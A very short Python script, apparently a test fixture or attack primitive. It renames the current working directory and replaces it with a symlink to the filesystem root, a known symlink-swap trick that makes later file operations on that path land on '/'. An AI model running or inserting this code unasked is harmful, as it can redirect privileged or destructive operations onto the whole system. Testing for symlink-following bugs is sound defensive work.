import os

here = os.getcwd()
os.chdir("/")
os.rename(here, here + "-away")
os.symlink("/", here)
